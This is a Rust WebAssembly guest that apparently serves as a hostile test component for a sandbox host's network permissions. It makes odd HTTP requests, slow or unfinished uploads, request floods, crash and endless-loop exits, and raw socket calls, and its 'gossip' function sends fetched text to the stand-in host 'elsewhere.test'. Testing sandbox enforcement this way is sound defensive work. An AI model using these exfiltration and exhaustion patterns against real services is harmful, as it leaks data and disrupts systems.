//! Reaches out where it may not, and the way it may not: over HTTP in every odd way that the
//! interface lets it write, and over raw sockets.
//!
//! The host must send nothing that was not granted, and must not wait longer than the call.

mod request;
mod sockets;

use exports::hostile::dials::attacks::{Guest, How, Response};
use request::{Asked, Url};
use wasip2::http::types::{IncomingResponse, OutgoingBody};
use wasip2::io::poll;

wit_bindgen::generate!();

const HOPS_MAX: u32 = 20;

type Headers = Vec<(String, String)>;

struct Dials;

impl Guest for Dials {
    fn fetch(
        method: String,
        scheme: String,
        authority: String,
        path: String,
        headers: Option<Headers>,
        body: Option<Vec<u8>>,
        follow_redirects: Option<bool>,
    ) -> Result<Response, String> {
        let (headers, body) = (headers.unwrap_or_default(), body.unwrap_or_default());
        let mut url = Url {
            scheme,
            authority,
            path,
        };
        let mut hops = 0;
        loop {
            let asked = Asked::new(&method, &url, &headers)?;
            request::write(&asked.body, &body);
            let response = asked.answer()?;
            match location(&response) {
                Some(next) if follow_redirects == Some(true) && hops < HOPS_MAX => {
                    hops += 1;
                    url = url.join(&next);
                }
                _ => return request::read(response, hops),
            }
        }
    }

    fn get(url: String) -> Result<Response, String> {
        let asked = Asked::new("GET", &Url::parse(&url), &[])?;
        request::read(asked.answer()?, 0)
    }

    fn gossip(url: String, without: String, how: How) -> Result<String, String> {
        let answer = Self::get(url.clone())?;
        let text = match without.is_empty() {
            true => answer.text,
            false => answer.text.replace(&without, ""),
        };
        println!("{text}");
        eprintln!("{text}");
        // Whether it is refused or not, someone may read where it wanted to go.
        let path: String = text.chars().filter(char::is_ascii_graphic).collect();
        let mut elsewhere = Url::parse(&url);
        elsewhere.authority = "elsewhere.test".to_owned();
        elsewhere.path = format!("/{path}");
        let _ = Asked::new("GET", &elsewhere, &[]).map(|asked| asked.answer());
        match how {
            How::Answer => Ok(text),
            How::Fail => Err(text),
            How::Panic => panic!("{text}"),
        }
    }

    fn upload(scheme: String, authority: String, path: String, bytes: u64) -> Result<u16, String> {
        let asked = Asked::new(
            "POST",
            &Url {
                scheme,
                authority,
                path,
            },
            &[],
        )?;
        request::pour(&asked.body, bytes, None);
        Ok(asked.answer()?.status())
    }

    fn drip(
        scheme: String,
        authority: String,
        path: String,
        bytes: u32,
        pause_millis: u64,
    ) -> Result<u16, String> {
        let asked = Asked::new(
            "POST",
            &Url {
                scheme,
                authority,
                path,
            },
            &[],
        )?;
        request::pour(&asked.body, bytes.into(), Some(pause_millis));
        Ok(asked.answer()?.status())
    }

    fn leave_unfinished(
        scheme: String,
        authority: String,
        path: String,
        bytes: u32,
    ) -> Result<u16, String> {
        let asked = Asked::new(
            "POST",
            &Url {
                scheme,
                authority,
                path,
            },
            &[],
        )?;
        request::pour(&asked.body, bytes.into(), None);
        let (_open, coming): (OutgoingBody, _) = (asked.body, asked.coming);
        Ok(request::wait(&coming)?.status())
    }

    fn leave_unread(scheme: String, authority: String, path: String, count: u32) -> Vec<String> {
        let url = Url {
            scheme,
            authority,
            path,
        };
        let answers: Vec<_> = (0..count)
            .map(|_| Asked::new("GET", &url, &[])?.answer())
            .collect();
        answers.iter().map(|answer| told(answer.as_ref())).collect()
    }

    fn fetch_many(scheme: String, authority: String, path: String, count: u32) -> Vec<String> {
        let url = Url {
            scheme,
            authority,
            path,
        };
        let coming: Vec<Result<_, String>> = (0..count)
            .map(|_| Asked::new("GET", &url, &[])?.sent())
            .collect();
        let waits: Vec<_> = coming.iter().flatten().map(|one| one.subscribe()).collect();
        if !waits.is_empty() {
            poll::poll(&waits.iter().collect::<Vec<_>>());
        }
        drop(waits);
        let read = |one: Result<_, String>| request::read(request::wait(&one?)?, 0);
        coming
            .into_iter()
            .map(|one| match read(one) {
                Ok(response) => response.status.to_string(),
                Err(error) => error,
            })
            .collect()
    }

    fn fetch_and_crash(scheme: String, authority: String, path: String) {
        let url = Url {
            scheme,
            authority,
            path,
        };
        let _ = Asked::new("GET", &url, &[]).and_then(|asked| request::read(asked.answer()?, 0));
        std::arch::wasm32::unreachable()
    }

    fn fetch_and_loop(scheme: String, authority: String, path: String) {
        let url = Url {
            scheme,
            authority,
            path,
        };
        let _ = Asked::new("GET", &url, &[]).and_then(|asked| request::read(asked.answer()?, 0));
        loop {
            std::hint::black_box(());
        }
    }

    fn tcp_connect(ip: String, port: u16) -> Result<(), String> {
        sockets::connect(&ip, port)
    }

    fn tcp_listen(ip: String, port: u16) -> Result<(), String> {
        sockets::listen(&ip, port)
    }

    fn udp_send(ip: String, port: u16, text: String) -> Result<(), String> {
        sockets::send(&ip, port, &text)
    }

    fn lookup(name: String) -> Result<Vec<String>, String> {
        sockets::lookup(&name)
    }
}

/// Where a redirect leads.
fn location(response: &IncomingResponse) -> Option<String> {
    if !(300..400).contains(&response.status()) {
        return None;
    }
    let values = response.headers().get("location");
    values
        .first()
        .map(|value| String::from_utf8_lossy(value).into_owned())
}

fn told(answer: Result<&IncomingResponse, &String>) -> String {
    match answer {
        Ok(response) => response.status().to_string(),
        Err(error) => error.clone(),
    }
}

export!(Dials);
